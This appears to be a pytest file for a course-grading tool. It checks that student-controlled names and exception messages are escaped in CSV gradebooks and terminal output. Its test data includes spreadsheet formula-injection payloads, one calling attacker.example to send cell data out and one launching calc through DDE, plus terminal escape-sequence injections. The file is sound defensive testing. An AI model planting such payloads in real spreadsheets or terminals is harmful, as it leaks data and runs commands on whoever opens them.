"""Text a student controls reaches spreadsheets and terminals as text, never as commands.

Student ids come from folder names, file names from the submission, exception type names and
messages from learner code. In ``gradebook.csv`` and the Canvas import, a cell that would start
a formula (OWASP: ``=``, ``+``, ``-``, ``@``, tab, carriage return) gets a leading ``'``; in
every terminal output (``grader grade``, ``batch``, ``check``, the progress bar) control
characters (escape sequences, carriage returns, bidirectional overrides) are written out.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys

from rich.console import Console

from grader.batch import grade_class, gradebook_csv
from grader.course import PROJECT_DIR, REFERENCE_DIR
from grader.exporters.canvas import CanvasImport, canvas_csv, canvas_summary
from grader.progress import Progress
from grader.reporting.safe_text import FORMULA_STARTS
from grader.reporting.summary import print_class_summary, print_summary
from grader.reporting.terminal import print_feedback

HOSTILE_IDS = [
    '=HYPERLINK("attacker.example?x="&A1,"open")',
    "@SUM(1+1)",
    "+cmd|' -C calc'!A0",
    "-2+3",
    "\tstudent",
    "\rstudent",
    "red\x1b[31mstudent\x1b]0;title\x07",
    "mirror\u202estudent",
]
# Characters a terminal obeys; newlines and tabs are kept in multi-line messages only.
RAW_CONTROLS = ["\x1b", "\r", "\x07", "\u202e", "\x9b"]


def assert_inert(text: str) -> None:
    found = [repr(c) for c in RAW_CONTROLS if c in text]
    assert not found, f"raw control characters reached the terminal: {found}"


def test_gradebook_cells_never_start_a_formula(tmp_path):
    students = tmp_path / "class"
    students.mkdir()
    for student in HOSTILE_IDS:
        (students / student).mkdir()
        shutil.copyfile(
            REFERENCE_DIR / "ex01_partial_derivatives.py", students / student / "ex01_partial_derivatives.py"
        )
    stream = io.StringIO()
    result = grade_class(students, tmp_path / "out", jobs=2, progress=Progress(0, stream=io.StringIO()))
    assert sorted(o.student for o in result.students) == sorted(HOSTILE_IDS)

    text = (tmp_path / "out" / "gradebook.csv").read_bytes().decode()
    assert text == gradebook_csv(result)
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(rows) == len(HOSTILE_IDS)
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
        assert (
            row[0] in [f"'{s}" for s in HOSTILE_IDS[:4]] + ["'\\tstudent", "'\\rstudent"]
            or "\\x1b" in row[0]
            or ("\\u202e" in row[0])
        )  # the id itself, readable
        assert row[1] == "10"  # the student's ex01 score, in its column

    canvas = CanvasImport(rows=[["Student", "ID", "Assignment"], *([student, "1", "10"] for student in HOSTILE_IDS)])
    for row in list(csv.reader(io.StringIO(canvas_csv(canvas), newline=""))):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row

    with_stdout(lambda: print_class_summary(result, tmp_path / "out"), stream)
    canvas.unmatched_students = list(HOSTILE_IDS)
    stream.write("\n".join(canvas_summary(canvas)))
    assert_inert(stream.getvalue())
    assert "\\x1b" in stream.getvalue()  # shown, so the instructor sees what the name holds


def with_stdout(function, stream: io.StringIO) -> None:
    saved = sys.stdout
    sys.stdout = stream
    try:
        function()
    finally:
        sys.stdout = saved


# ex01 raises an exception whose type name and message hold escape sequences; a stray file
# beside the missing ex02 module has one in its name (the "found ..." hint names it).
RAISING = """
Sneaky = type("Sneaky\\x1b[2J\\x1b[H", (Exception,), {})
raise Sneaky("cleared \\x1b]0;pwned\\x07 your terminal\\r\\u202e")
"""


def test_terminal_output_shows_control_characters_instead_of_obeying_them(tmp_path, make_folder, grade):
    folder = make_folder({"ex01": RAISING})
    (folder / "ex02_gradient_geometry.py").rename(folder / "ex02_gradient\x1b[31m_geometry.py")
    result = grade(folder, timeout=5.0)
    ex01, ex02 = result.exercises[0], result.exercises[1]
    assert "Sneaky" in ex01.message and "\x1b" in ex01.message  # kept as it was in results.json
    assert "\x1b" in ex02.message

    summary = io.StringIO()
    print_summary(result, None, file=summary)
    feedback = io.StringIO()
    print_feedback(result, console=Console(file=feedback, width=200, color_system=None, highlight=False))
    for text in (summary.getvalue(), feedback.getvalue()):
        assert_inert(text)
        assert "\\x1b[2J" in text or "\\x1b[31m" in text

    done = subprocess.run(
        [sys.executable, "-m", "grader", "grade", str(folder), "--timeout", "5"],
        cwd=PROJECT_DIR,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "NO_COLOR": "1"},
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert_inert(done.stdout + done.stderr)
    assert "Sneaky\\x1b[2J" in done.stdout


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_the_progress_bar_shows_a_student_id_as_text():
    stream = Terminal()
    progress = Progress(total=2, stream=stream)
    progress.advance("first")
    progress.advance("red\x1b[31mstudent\u202e")  # the last one stays on the bar
    progress.close()
    assert "\x1b[31m" not in stream.getvalue() and "\u202e" not in stream.getvalue()
    assert "\\x1b[31m" in stream.getvalue()
